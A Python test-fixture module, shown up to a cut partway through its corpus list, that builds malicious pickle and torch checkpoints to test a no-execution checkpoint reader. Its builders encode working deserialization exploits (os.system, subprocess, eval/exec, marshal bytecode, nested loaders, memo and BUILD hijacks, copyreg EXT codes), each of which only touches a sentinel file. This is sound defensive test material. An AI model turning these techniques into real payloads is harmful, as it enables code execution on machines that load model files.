"""A corpus of malicious legacy checkpoints, for the no-execution reader of ``safeckpt.legacy``.

Every builder is named after what it exploits (as fickling's ``test/test_bypasses.py``
names its cases), takes ``(directory, sentinel)`` and returns the path of the file it
wrote into ``directory``. Each payload, if it were ever executed, would create the file
``sentinel`` (``touch`` through a shell or a child process, ``open(..., "w")``, a
socket bound at that path, ...); a payload that only *names* something dangerous
(``nt.system``, ``shutil.rmtree``, a storage type in a persistent id) says so.

Files are built two ways: by pickling ``_Reduce`` objects (whose ``__reduce__``
returns the dangerous callable) with ``pickle.dumps`` / ``torch.save``, and opcode by
opcode from raw bytes. Nothing here ever unpickles a payload.

``CORPUS`` lists ``(name, builder)``. ``EXPECTED_GLOBALS[name]`` lists the dangerous
``"module:qualname"`` names the file references, each of which a reader must report
(an entry that is a tuple of names means "at least one of these"); entries absent
from it (TorchScript archive, EXT opcodes) must be refused without a name being
required. ``LIVE_CHECKED`` names entries whose payload really fires under
``torch.load(weights_only=False)`` (see ``tests/test_legacy_malicious.py``).
"""

from __future__ import annotations

import contextlib
import copyreg
import io
import marshal
import os
import pickle
import pickletools
import shlex
import struct
import subprocess
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch
from torch import nn

# --------------------------------------------------------------------------- payload text


def shell_cmd(sentinel: Path) -> str:
    """A shell command that creates the sentinel."""
    return f"touch {shlex.quote(str(sentinel))}"


def argv(sentinel: Path) -> list[str]:
    """An argv that creates the sentinel."""
    return ["touch", str(sentinel)]


def py_src(sentinel: Path) -> str:
    """Python source (statement and expression at once) that creates the sentinel."""
    return f"open({str(sentinel)!r}, 'w').close()"


# --------------------------------------------------------------------------- opcodes

MARK = b"("
STOP = b"."
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NONE = b"N"
NEWFALSE = b"\x89"
OBJ = b"o"
BINPERSID = b"Q"


def proto(n: int) -> bytes:
    """PROTO n."""
    return b"\x80" + bytes([n])


def u(s: str) -> bytes:
    """BINUNICODE."""
    data = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def binbytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(data)) + data


def binint1(n: int) -> bytes:
    """BININT1."""
    return b"K" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL module name (protocols 0-3)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two strings (protocol 4)."""
    return u(module) + u(name) + STACK_GLOBAL


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def tup(*items: bytes) -> bytes:
    """A tuple of already-encoded items."""
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes) -> bytes:
    """A list of already-encoded items."""
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + tup(*args) + REDUCE


def frame(body: bytes) -> bytes:
    """FRAME around the rest of a protocol-4 pickle."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def benign_dict(payload: bytes) -> bytes:
    """``{"epoch": 3, "lr": ..., "payload": <payload>}`` around an encoded value."""
    return EMPTY_DICT + MARK + u("epoch") + binint1(3) + u("model_type") + u("classification") + u("payload") + payload + SETITEMS


def p2(body: bytes) -> bytes:
    """A protocol-2 pickle of one encoded value."""
    return proto(2) + body + STOP


def p3(body: bytes) -> bytes:
    return proto(3) + body + STOP


def p4(body: bytes) -> bytes:
    return proto(4) + frame(body + STOP)


def embed(value: Any, protocol: int = 3) -> bytes:
    """``value`` pickled by the stdlib pickler (plain data only), without PROTO and STOP, for embedding.

    The embedded part uses memo indices from 0 up; callers that embed it do not use the memo.
    """
    data = pickle.dumps(value, protocol=protocol)
    assert data[:2] == proto(protocol) and data[-1:] == STOP
    return data[2:-1]


def methodcaller(name: str, *args: bytes) -> bytes:
    """``operator.methodcaller(name, *args)`` (a callable that calls ``obj.name(*args)``)."""
    return call(glob("operator", "methodcaller"), u(name), *args)


def write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


# --------------------------------------------------------------------------- __reduce__ objects


class _Reduce:
    """An object that pickles as ``func(*args)``: what an attacker's class does."""

    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def _system(sentinel: Path) -> _Reduce:
    return _Reduce(os.system, (shell_cmd(sentinel),))


def _small_state_dict() -> OrderedDict[str, torch.Tensor]:
    torch.manual_seed(0)
    return nn.Sequential(nn.Linear(3, 2), nn.BatchNorm1d(2)).state_dict()


def dumps_reduce(directory: Path, name: str, func: Any, args: tuple[Any, ...], protocol: int = 2) -> Path:
    """``pickle.dumps`` of a benign-looking dict holding a ``__reduce__`` payload."""
    return write(directory, name, pickle.dumps({"epoch": 3, "payload": _Reduce(func, args)}, protocol=protocol))


def _nested_torch_file(directory: Path, sentinel: Path) -> Path:
    """A zip-format torch.save file whose pickle runs os.system (the second stage of some payloads)."""
    path = directory / "stage2.pt"
    torch.save({"model_state_dict": _small_state_dict(), "hook": _system(sentinel)}, path)
    return path


def _legacy_pickles(data: bytes) -> list[bytes]:
    """Split a pre-1.6 torch.save file into its five pickles and the raw storage bytes.

    Uses ``pickletools.genops``, which parses opcodes and executes nothing.
    """
    f = io.BytesIO(data)
    parts = []
    for _ in range(5):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        parts.append(data[start:f.tell()])
    parts.append(data[f.tell():])
    return parts


def _replace_zip_member(src: Path, dst: Path, suffix: str, new: bytes) -> None:
    """Rewrite a zip archive with the member ending in ``suffix`` replaced, other members kept."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        replaced = 0
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith(suffix):
                data, replaced = new, replaced + 1
            zout.writestr(info.filename, data)
    assert replaced == 1, f"{src} has no single member ending in {suffix}"


# --------------------------------------------------------------------------- os / posix / nt


def os_system_opcodes(d: Path, s: Path) -> Path:
    """``GLOBAL os system`` called with a shell command, protocol 2, written byte by byte."""
    return write(d, "os_system.pkl", b"\x80\x02cos\nsystem\nq\x00" + u(shell_cmd(s)) + b"\x85R.")


def os_system_reduce_torch_save(d: Path, s: Path) -> Path:
    """A ``__reduce__`` -> os.system object beside a real state dict, written by ``torch.save`` (zip)."""
    path = d / "model.pt"
    torch.save({"model_state_dict": _small_state_dict(), "epoch": 3, "hook": _system(s)}, path)
    return path


def _os_system_protocol(p: int) -> Callable[[Path, Path], Path]:
    def build(d: Path, s: Path) -> Path:
        return write(d, f"os_system_p{p}.pkl", pickle.dumps({"epoch": 3, "payload": _system(s)}, protocol=p))

    build.__name__ = f"os_system_reduce_protocol_{p}"
    build.__doc__ = f"``__reduce__`` -> os.system pickled with protocol {p} (pickle writes it as posix.system)."
    return build


def headerless_pickle_starting_with_empty_tuple(d: Path, s: Path) -> Path:
    """No PROTO header and a first opcode (EMPTY_TUPLE, POP) that no sniffer expects; pickle.load still runs it."""
    return write(d, "headerless.bin", EMPTY_TUPLE + POP + glob("os", "system") + tup(u(shell_cmd(s))) + REDUCE + STOP)


def protocol0_trailing_garbage_after_stop(d: Path, s: Path) -> Path:
    """A protocol 0 os.system pickle followed by junk bytes: unpicklers stop at STOP and never see them."""
    cmd = shell_cmd(s).encode("raw_unicode_escape")
    return write(d, "trailing.pkl", b"cos\nsystem\n(V" + cmd + b"\ntR." + b"\n\x00\xff not a pickle \x01\x02")


def dotted_qualname_module_alias_os_system(d: Path, s: Path) -> Path:
    """STACK_GLOBAL ("torch._utils", "os.system"): protocol 4 resolves dotted names, reaching os through a module attribute."""
    return write(d, "dotted_alias.pkl", p4(benign_dict(call(stack_glob("torch._utils", "os.system"), u(shell_cmd(s))))))


def posix_system_stack_global_framed(d: Path, s: Path) -> Path:
    """``posix.system`` through STACK_GLOBAL inside a FRAME (protocol 4)."""
    return write(d, "posix_system.pkl", p4(benign_dict(call(stack_glob("posix", "system"), u(shell_cmd(s))))))


def nt_system_referenced_only(d: Path, s: Path) -> Path:
    """``nt.system`` (Windows' os.system) merely named as a value, never called."""
    return write(d, "nt_system.pkl", p2(benign_dict(glob("nt", "system"))))


def inst_os_system_protocol0(d: Path, s: Path) -> Path:
    """Protocol 0 INST: ``(Vcmd\\nios\\nsystem\\n.`` calls os.system(cmd) as if instantiating a class."""
    cmd = shell_cmd(s).encode("raw_unicode_escape")
    return write(d, "inst_os_system.pkl", b"(V" + cmd + b"\nios\nsystem\n.")


# --------------------------------------------------------------------------- builtins


def eval_reduce(d: Path, s: Path) -> Path:
    """``builtins.eval`` of an expression that writes the sentinel."""
    return dumps_reduce(d, "eval.pkl", eval, (py_src(s),))


def exec_reduce(d: Path, s: Path) -> Path:
    """``builtins.exec`` of a statement that writes the sentinel."""
    return dumps_reduce(d, "exec.pkl", exec, (py_src(s),))


def compile_then_exec_opcodes(d: Path, s: Path) -> Path:
    """``exec(compile(src, "<ckpt>", "exec"))``: two chained REDUCEs."""
    code = call(glob("builtins", "compile"), u(py_src(s)), u("<ckpt>"), u("exec"))
    return write(d, "compile_exec.pkl", p2(benign_dict(call(glob("builtins", "exec"), code))))


def builtins_import_os_system_chained_reduce(d: Path, s: Path) -> Path:
    """``getattr(__import__("os"), "system")(cmd)``: module import, attribute fetch and call, all by REDUCE."""
    os_module = call(glob("builtins", "__import__"), u("os"))
    system = call(glob("builtins", "getattr"), os_module, u("system"))
    return write(d, "import_os.pkl", p2(benign_dict(call(system, u(shell_cmd(s))))))


def getattr_builtins_eval_chain(d: Path, s: Path) -> Path:
    """``getattr(inspect.builtins, "eval")(expr)``: the builtins module reached through another module."""
    ev = call(glob("builtins", "getattr"), glob("inspect", "builtins"), u("eval"))
    return write(d, "getattr_eval.pkl", p2(benign_dict(call(ev, u(py_src(s))))))


def py2_builtin_module_alias_eval(d: Path, s: Path) -> Path:
    """``c__builtin__\\neval``: the Python 2 module name that pickle maps to builtins for protocol < 3."""
    return write(d, "py2_eval.pkl", p2(benign_dict(call(glob("__builtin__", "eval"), u(py_src(s))))))


def builtins_open_write_opcodes(d: Path, s: Path) -> Path:
    """``builtins.open(sentinel, "w")``: opening for writing creates the file."""
    return write(d, "open.pkl", p2(benign_dict(call(glob("builtins", "open"), u(str(s)), u("w")))))


def io_open_write_reduce(d: Path, s: Path) -> Path:
    """``__reduce__`` -> open(sentinel, "w"); pickle names builtins.open as ``io.open``."""
    return dumps_reduce(d, "io_open.pkl", open, (str(s), "w"))


def getattr_pathlib_touch(d: Path, s: Path) -> Path:
    """``getattr(pathlib.Path(sentinel), "touch")()``: a harmless class turned into a file write by getattr."""
    touch = call(glob("builtins", "getattr"), call(glob("pathlib", "Path"), u(str(s))), u("touch"))
    return write(d, "pathlib_touch.pkl", p2(benign_dict(touch + EMPTY_TUPLE + REDUCE)))


def setattr_module_hijack(d: Path, s: Path) -> Path:
    """``setattr(torch.nn.functional, "gelu", posix.system)`` then ``torch.nn.functional.gelu(cmd)``."""
    hijack = call(glob("builtins", "setattr"), glob("torch.nn", "functional"), u("gelu"), glob("posix", "system"))
    fire = call(glob("torch.nn.functional", "gelu"), u(shell_cmd(s)))
    return write(d, "setattr_hijack.pkl", p2(benign_dict(tup(hijack, fire))))


# --------------------------------------------------------------------------- subprocess


def subprocess_popen_reduce(d: Path, s: Path) -> Path:
    """``subprocess.Popen(["touch", sentinel])`` via ``__reduce__``."""
    return dumps_reduce(d, "popen.pkl", subprocess.Popen, (argv(s),))


def subprocess_check_output_reduce(d: Path, s: Path) -> Path:
    """``subprocess.check_output(["touch", sentinel])`` via ``__reduce__``."""
    return dumps_reduce(d, "check_output.pkl", subprocess.check_output, (argv(s),))


def subprocess_call_reduce(d: Path, s: Path) -> Path:
    """``subprocess.call(["touch", sentinel])`` via ``__reduce__``, protocol 4."""
    return dumps_reduce(d, "call.pkl", subprocess.call, (argv(s),), protocol=4)


def py2_commands_module_alias_getoutput(d: Path, s: Path) -> Path:
    """``ccommands\ngetoutput``: protocol < 3 maps the Python 2 module ``commands`` to ``subprocess``."""
    return write(d, "py2_commands.pkl", p2(benign_dict(call(glob("commands", "getoutput"), u(shell_cmd(s))))))


def inst_subprocess_popen_protocol0(d: Path, s: Path) -> Path:
    """Protocol 0 INST instantiating ``subprocess.Popen`` with a protocol-0 list argument."""
    touch, target = (x.encode("raw_unicode_escape") for x in argv(s))
    arg = b"(lp0\nV" + touch + b"\np1\naV" + target + b"\np2\na"
    return write(d, "inst_popen.pkl", b"(" + arg + b"isubprocess\nPopen\np3\n.")


def obj_subprocess_popen_protocol1(d: Path, s: Path) -> Path:
    """Protocol 1 OBJ: ``MARK class args OBJ`` instantiating ``subprocess.Popen``."""
    return write(d, "obj_popen.pkl", MARK + glob("subprocess", "Popen") + lst(*map(u, argv(s))) + OBJ + STOP)


def newobj_subprocess_popen_then_init(d: Path, s: Path) -> Path:
    """NEWOBJ ``Popen.__new__(Popen)``, then ``methodcaller("__init__", argv)`` on it spawns the child."""
    obj = glob("subprocess", "Popen") + EMPTY_TUPLE + NEWOBJ
    fire = methodcaller("__init__", lst(*map(u, argv(s)))) + tup(obj) + REDUCE
    return write(d, "newobj_popen.pkl", p2(benign_dict(fire)))


def newobj_ex_subprocess_popen_then_init(d: Path, s: Path) -> Path:
    """NEWOBJ_EX (protocol 4) ``Popen.__new__(Popen, **{})``, then ``__init__(argv)`` through methodcaller."""
    obj = stack_glob("subprocess", "Popen") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX
    fire = call(stack_glob("operator", "methodcaller"), u("__init__"), lst(*map(u, argv(s)))) + tup(obj) + REDUCE
    return write(d, "newobj_ex_popen.pkl", p4(benign_dict(fire)))


# --------------------------------------------------------------------------- importers and runners


def importlib_import_module_methodcaller(d: Path, s: Path) -> Path:
    """``methodcaller("system", cmd)(importlib.import_module("os"))``."""
    os_module = call(glob("importlib", "import_module"), u("os"))
    return write(d, "import_module.pkl", p2(benign_dict(methodcaller("system", u(shell_cmd(s))) + tup(os_module) + REDUCE)))


def pkgutil_resolve_name(d: Path, s: Path) -> Path:
    """``pkgutil.resolve_name("os:system")(cmd)``."""
    system = call(glob("pkgutil", "resolve_name"), u("os:system"))
    return write(d, "resolve_name.pkl", p2(benign_dict(call(system, u(shell_cmd(s))))))


def runpy_run_path(d: Path, s: Path) -> Path:
    """``runpy.run_path(script)`` of a script (written beside the file) that writes the sentinel."""
    script = d / "stage2_script.py"
    script.write_text(py_src(s) + "\n")
    return write(d, "run_path.pkl", p2(benign_dict(call(glob("runpy", "run_path"), u(str(script))))))


def runpy_run_module(d: Path, s: Path) -> Path:
    """``sys.path.insert(0, dir)`` through methodcaller, then ``runpy.run_module`` of a module placed there."""
    module = "safeckpt_corpus_stage2"
    (d / f"{module}.py").write_text(py_src(s) + "\n")
    insert = methodcaller("insert", binint1(0), u(str(d))) + tup(glob("sys", "path")) + REDUCE
    run = call(glob("runpy", "run_module"), u(module))
    return write(d, "run_module.pkl", p2(benign_dict(tup(insert, run))))


def numpy_runstring(d: Path, s: Path) -> Path:
    """``numpy.testing._private.utils.runstring(src, {})``: exec hidden in a numpy helper."""
    fire = call(glob("numpy.testing._private.utils", "runstring"), u(py_src(s)), EMPTY_DICT)
    return write(d, "runstring.pkl", p2(benign_dict(fire)))


# --------------------------------------------------------------------------- nested deserialisers


def pickle_loads_nested_pickle(d: Path, s: Path) -> Path:
    """``pickle.loads(b"...")`` of a nested os.system pickle carried as bytes."""
    inner = b"\x80\x02cos\nsystem\nq\x00" + u(shell_cmd(s)) + b"\x85R."
    return write(d, "nested_pickle.pkl", p3(benign_dict(call(glob("pickle", "loads"), binbytes(inner)))))


def underscore_pickle_loads_nested_pickle(d: Path, s: Path) -> Path:
    """``_pickle.loads`` (the C module behind pickle.loads) of a nested os.system pickle."""
    inner = pickle.dumps(_system(s), protocol=2)
    return write(d, "nested_cpickle.pkl", p3(benign_dict(call(glob("_pickle", "loads"), binbytes(inner)))))


def marshal_loads_code_functiontype(d: Path, s: Path) -> Path:
    """``types.FunctionType(marshal.loads(code_bytes), {})()``: bytecode smuggled as bytes."""
    code = marshal.dumps(compile(py_src(s), "<ckpt>", "exec"))
    func = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(code)), EMPTY_DICT)
    return write(d, "marshal.pkl", p3(benign_dict(func + EMPTY_TUPLE + REDUCE)))


_CODE_FIELDS = (
    "co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags",
    "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name", "co_qualname",
    "co_firstlineno", "co_linetable", "co_exceptiontable", "co_freevars", "co_cellvars",
)  # the positional order of types.CodeType(...) in CPython 3.11-3.13


def types_codetype_functiontype(d: Path, s: Path) -> Path:
    """``types.FunctionType(types.CodeType(*fields), {})()``: a code object built field by field."""
    code = compile(py_src(s), "<ckpt>", "exec")
    fields = tuple(getattr(code, name) for name in _CODE_FIELDS)
    code_obj = glob("types", "CodeType") + embed(fields, protocol=3) + REDUCE
    func = call(glob("types", "FunctionType"), code_obj, EMPTY_DICT)
    return write(d, "codetype.pkl", p3(benign_dict(func + EMPTY_TUPLE + REDUCE)))


def torch_load_nested_file(d: Path, s: Path) -> Path:
    """``functools.partial(torch.load)`` with ``weights_only=False`` set by BUILD, called on a second-stage file."""
    stage2 = _nested_torch_file(d, s)
    state = tup(glob("torch", "load"), EMPTY_TUPLE, EMPTY_DICT + u("weights_only") + NEWFALSE + SETITEM, NONE)
    loader = call(glob("functools", "partial"), glob("torch", "load")) + state + BUILD
    return write(d, "torch_load.pkl", p2(benign_dict(call(loader, u(str(stage2))))))


def torch_serialization_load_alias(d: Path, s: Path) -> Path:
    """``torch.serialization.load`` (torch.load under its defining module's name) on a second-stage file."""
    stage2 = _nested_torch_file(d, s)
    state = tup(glob("torch.serialization", "load"), EMPTY_TUPLE, EMPTY_DICT + u("weights_only") + NEWFALSE + SETITEM, NONE)
    loader = call(glob("functools", "partial"), glob("torch.serialization", "load")) + state + BUILD
    return write(d, "torch_serialization_load.pkl", p2(benign_dict(call(loader, u(str(stage2))))))


def torch_storage_load_from_bytes(d: Path, s: Path) -> Path:
    """``torch.storage._load_from_bytes(b)``: torch's own helper that runs ``torch.load(weights_only=False)``."""
    buf = io.BytesIO()
    torch.save({"hook": _system(s)}, buf)
    return write(d, "load_from_bytes.pkl", p3(benign_dict(call(glob("torch.storage", "_load_from_bytes"), binbytes(buf.getvalue())))))


class _Scripted(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * 2


def _script(path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit is deprecated, old checkpoints are not
        torch.jit.save(torch.jit.script(_Scripted()), str(path))


def torch_jit_load_then_save(d: Path, s: Path) -> Path:
    """``torch.jit.save(torch.jit.load(archive), sentinel)``: TorchScript loaders named from a pickle."""
    archive = d / "scripted_stage2.pt"
    _script(archive)
    loaded = call(glob("torch.jit", "load"), u(str(archive)))
    return write(d, "jit_load.pkl", p2(benign_dict(call(glob("torch.jit", "save"), loaded, u(str(s))))))


# --------------------------------------------------------------------------- gadgets


def shutil_rmtree_referenced_only(d: Path, s: Path) -> Path:
    """``shutil.rmtree`` stored as a value (``{"cleanup": shutil.rmtree}``), never called."""
    return write(d, "rmtree.pkl", p2(benign_dict(glob("shutil", "rmtree"))))


def webbrowser_open(d: Path, s: Path) -> Path:
    """``webbrowser.open(url)``: runs ``$BROWSER url`` (``BROWSER=touch`` in the liveness check)."""
    return write(d, "webbrowser.pkl", p2(benign_dict(call(glob("webbrowser", "open"), u(str(s))))))


def socket_unix_bind(d: Path, s: Path) -> Path:
    """``socket.socket(AF_UNIX, SOCK_STREAM).bind(sentinel)`` through methodcaller: binding creates the path."""
    sock = call(glob("socket", "socket"), binint1(1), binint1(1))
    return write(d, "socket.pkl", p2(benign_dict(methodcaller("bind", u(str(s))) + tup(sock) + REDUCE)))


def ctypes_cdll_libc_system(d: Path, s: Path) -> Path:
    """``ctypes.CDLL(None).system(cmd)``: libc's system() through the dynamic loader."""
    libc = call(glob("ctypes", "CDLL"), NONE)
    fire = methodcaller("system", binbytes(shell_cmd(s).encode())) + tup(libc) + REDUCE
    return write(d, "ctypes.pkl", p3(benign_dict(fire)))


def sys_modules_getitem_os(d: Path, s: Path) -> Path:
    """``operator.getitem(sys.modules, "os")`` then ``methodcaller("system", cmd)`` on it."""
    os_module = call(glob("operator", "getitem"), glob("sys", "modules"), u("os"))
    return write(d, "sys_modules.pkl", p2(benign_dict(methodcaller("system", u(shell_cmd(s))) + tup(os_module) + REDUCE)))


def operator_attrgetter_chain(d: Path, s: Path) -> Path:
    """``attrgetter("__globals__")`` of an allowlisted torch helper, ``getitem(..., "os")``, ``attrgetter("system")``.

    Every global named is a pure function or the tensor rebuild helper itself;
    the attribute walk is what reaches os.system.
    """
    helper_globals = call(glob("operator", "attrgetter"), u("__globals__")) + tup(glob("torch._utils", "_rebuild_tensor_v2")) + REDUCE
    os_module = call(glob("operator", "getitem"), helper_globals, u("os"))
    system = call(glob("operator", "attrgetter"), u("system")) + tup(os_module) + REDUCE
    return write(d, "attrgetter.pkl", p2(benign_dict(call(system, u(shell_cmd(s))))))


# --------------------------------------------------------------------------- pickle-machine tricks


def memo_stack_global_confusion(d: Path, s: Path) -> Path:
    """Memoize "os" and "system" as plain strings inside benign data, later STACK_GLOBAL them from the memo."""
    body = (
        EMPTY_DICT + MEMOIZE  # memo 0: the outer dict
        + MARK
        + u("model_type") + MEMOIZE  # memo 1
        + u("os") + MEMOIZE  # memo 2: looks like a value
        + u("optimizer") + MEMOIZE  # memo 3
        + u("system") + MEMOIZE  # memo 4: looks like a value
        + u("payload") + MEMOIZE  # memo 5
        + b"h\x02" + b"h\x04" + STACK_GLOBAL  # BINGET 2, BINGET 4 -> os.system
        + u(shell_cmd(s)) + TUPLE1 + REDUCE
        + SETITEMS
    )
    return write(d, "memo_stack_global.pkl", p4(body))


def memo_index_overwritten(d: Path, s: Path) -> Path:
    """PUT a benign global (OrderedDict) at memo 0, then PUT os.system at memo 0 again, GET 0 and call it."""
    body = (
        glob("collections", "OrderedDict") + binput(0) + POP
        + glob("os", "system") + binput(0) + POP
        + binget(0) + u(shell_cmd(s)) + TUPLE1 + REDUCE
    )
    return write(d, "memo_overwrite.pkl", p2(benign_dict(body)))


def build_sets_module_attribute(d: Path, s: Path) -> Path:
    """BUILD on the module ``torch.nn.functional`` with ``{"relu": os.system}``, then call ``torch.nn.functional.relu``."""
    hijack = glob("torch.nn", "functional") + EMPTY_DICT + u("relu") + glob("os", "system") + SETITEM + BUILD
    fire = call(glob("torch.nn.functional", "relu"), u(shell_cmd(s)))
    return write(d, "build_module.pkl", p2(benign_dict(tup(hijack, fire))))


def build_hijacks_allowlisted_rebuild_tensor(d: Path, s: Path) -> Path:
    """BUILD on ``torch._utils`` replacing ``_rebuild_tensor_v2`` by ``exec``, then a "tensor rebuild" that execs."""
    hijack = glob("torch", "_utils") + EMPTY_DICT + u("_rebuild_tensor_v2") + glob("builtins", "exec") + SETITEM + BUILD
    fire = call(glob("torch._utils", "_rebuild_tensor_v2"), u(py_src(s)))
    return write(d, "build_rebuild_tensor.pkl", p2(benign_dict(tup(hijack, fire))))


#: copyreg extension codes used by the EXT payloads; ``registered_extensions()`` installs them.
EXTENSIONS: dict[int, tuple[str, str]] = {
    0xE5: ("os", "system"),
    0xBEEF: ("builtins", "exec"),
    0x7EADBEEF: ("subprocess", "check_call"),
}


@contextlib.contextmanager
def registered_extensions() -> Iterator[None]:
    """Register ``EXTENSIONS`` in copyreg for the duration (an environment where the EXT codes resolve)."""
    added = []
    try:
        for code, (module, name) in EXTENSIONS.items():
            if copyreg._inverted_registry.get(code) != (module, name):  # type: ignore[attr-defined]
                copyreg.add_extension(module, name, code)
                added.append((module, name, code))
        yield
    finally:
        for module, name, code in added:
            copyreg.remove_extension(module, name, code)


def copyreg_add_extension_then_ext(d: Path, s: Path) -> Path:
    """``copyreg.add_extension("posix", "system", code)`` from the file itself, then EXT1 of that code: no posix GLOBAL."""
    register = call(glob("copyreg", "add_extension"), u("posix"), u("system"), binint1(0xE6))
    fire = b"\x82" + bytes([0xE6]) + u(shell_cmd(s)) + TUPLE1 + REDUCE
    return write(d, "add_extension.pkl", p2(benign_dict(tup(register, fire))))


def ext1_copyreg_os_system(d: Path, s: Path) -> Path:
    """EXT1: a one-byte copyreg extension code that resolves to os.system."""
    return write(d, "ext1.pkl", p2(benign_dict(b"\x82" + bytes([0xE5]) + u(shell_cmd(s)) + TUPLE1 + REDUCE)))


def ext2_copyreg_builtins_exec(d: Path, s: Path) -> Path:
    """EXT2: a two-byte copyreg extension code that resolves to builtins.exec."""
    return write(d, "ext2.pkl", p2(benign_dict(b"\x83" + struct.pack("<H", 0xBEEF) + u(py_src(s)) + TUPLE1 + REDUCE)))


def ext4_copyreg_subprocess_check_call(d: Path, s: Path) -> Path:
    """EXT4: a four-byte copyreg extension code that resolves to subprocess.check_call."""
    fire = b"\x84" + struct.pack("<i", 0x7EADBEEF) + tup(lst(*map(u, argv(s)))) + REDUCE
    return write(d, "ext4.pkl", p2(benign_dict(fire)))


# --------------------------------------------------------------------------- torch containers


def torch_zip_data_pkl_replaced(d: Path, s: Path) -> Path:
    """A real torch.save zip archive whose ``archive/data.pkl`` is swapped for an os.system pickle."""
    benign = d / "benign.pt"
    torch.save({"model_state_dict": _small_state_dict(), "epoch": 3}, benign)
    path = d / "swapped.pt"
    _replace_zip_member(benign, path, "/data.pkl", pickle.dumps({"epoch": 3, "hook": _system(s)}, protocol=2))
    benign.unlink()
    return path


def torch_zip_persistent_id_storage_type_os_system(d: Path, s: Path) -> Path:
    """A zip archive whose storage persistent id names ``posix.system`` as its storage type."""
    benign = d / "benign.pt"
    torch.save({"w": torch.arange(4, dtype=torch.float32)}, benign)
    pid = tup(u("storage"), glob("posix", "system"), u("0"), u("cpu"), binint1(4)) + BINPERSID
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), pid, binint1(0), tup(binint1(4)), tup(binint1(1)), NEWFALSE,
                  glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE)
    data = p2(EMPTY_DICT + u("w") + tensor + SETITEM)
    path = d / "persid.pt"
    _replace_zip_member(benign, path, "/data.pkl", data)
    benign.unlink()
    return path


def _legacy_with(d: Path, s: Path, index: int, name: str) -> Path:
    buf = io.BytesIO()
    torch.save({"model_state_dict": _small_state_dict(), "epoch": 3}, buf, _use_new_zipfile_serialization=False)
    parts = _legacy_pickles(buf.getvalue())
    parts[index] = pickle.dumps(_system(s), protocol=2)
    return write(d, name, b"".join(parts))


def legacy_magic_number_pickle_replaced(d: Path, s: Path) -> Path:
    """Pre-1.6 format: the first pickle (the magic number) is an os.system payload."""
    return _legacy_with(d, s, 0, "legacy_magic.pt")


def legacy_sys_info_pickle_replaced(d: Path, s: Path) -> Path:
    """Pre-1.6 format: the third pickle (sys info: endianness, type sizes) is an os.system payload."""
    return _legacy_with(d, s, 2, "legacy_sys_info.pt")


def legacy_main_pickle_malicious(d: Path, s: Path) -> Path:
    """Pre-1.6 format written by torch.save: real tensors plus a ``__reduce__`` -> os.system object in the main pickle."""
    path = d / "legacy_main.pt"
    torch.save({"model_state_dict": _small_state_dict(), "hook": _system(s)}, path, _use_new_zipfile_serialization=False)
    return path


def realistic_state_deep_payload(d: Path, s: Path) -> Path:
    """A real NNHandler training state (tests/fixtures.py) with ``state["model_kwargs"]["x"] = Evil()``."""
    from fixtures import make_training_state

    state, _ = make_training_state()
    state["model_kwargs"] = dict(state["model_kwargs"], x={"nested": [1, 2, _system(s)]})
    path = d / "realistic.pth"
    torch.save(state, path)
    return path


# --------------------------------------------------------------------------- the corpus

CORPUS: list[tuple[str, Callable[[Path, Path], Path]]] = [
    (f.__name__, f)
    for f in (
        os_system_opcodes,
        os_system_reduce_torch_save,
        *(_os_system_protocol(p) for p in (0, 1, 2, 4, 5)),
        posix_system_stack_global_framed,
        headerless_pickle_starting_with_empty_tuple,
        protocol0_trailing_garbage_after_stop,
        dotted_qualname_module_alias_os_system,
        nt_system_referenced_only,
        inst_os_system_protocol0,
        eval_reduce,
        exec_reduce,
        compile_then_exec_opcodes,
        builtins_import_os_system_chained_reduce,
        getattr_builtins_eval_chain,
        py2_builtin_module_alias_eval,
        builtins_open_write_opcodes,
        io_open_write_reduce,
        getattr_pathlib_touch,
        setattr_module_hijack,
        subprocess_popen_reduce,
        subprocess_check_output_reduce,
        subprocess_call_reduce,
        py2_commands_module_alias_getoutput,
        inst_subprocess_popen_protocol0,
        obj_subprocess_popen_protocol1,
        newobj_subprocess_popen_then_init,
        newobj_ex_subprocess_popen_then_init,
        importlib_import_module_methodcaller,
        pkgutil_resolve_name,
        runpy_run_path,
        runpy_run_module,
        numpy_runstring,
        pickle_loads_nested_pickle,
        underscore_pickle_loads_nested_pickle,
        marshal_loads_code_functiontype,
        types_codetype_functiontype,
        torch_load_nested_file,
        torch_serialization_load_alias,
